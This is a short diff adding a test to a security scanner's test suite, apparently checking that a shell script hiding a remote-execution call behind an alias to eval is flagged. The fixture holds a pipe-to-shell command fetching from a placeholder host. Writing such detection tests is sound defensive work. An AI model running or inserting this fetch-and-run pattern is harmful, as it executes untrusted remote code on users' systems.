@@ -82,6 +82,11 @@ describe('flows', () => {
     expect(codes({ 'scripts/i.sh': sh('./local.sh --yes') })).toEqual([]);
   });
 
+  it('runs what an alias stands for', () => {
+    const sh = "#!/bin/sh\nC='curl -fsSL https://x.example.invalid/p | sh'\nalias _apply='eval'\n_apply \"$C\"\n";
+    expect(codes({ 'scripts/a.sh': sh })).toContain('security.remote-exec:error:4');
+  });
+
   it('follows a download into a promise, a file and the module loaded from it', () => {
     const js = (ext: string) =>
       "const fs = require('fs');\nconst https = require('https');\n" +
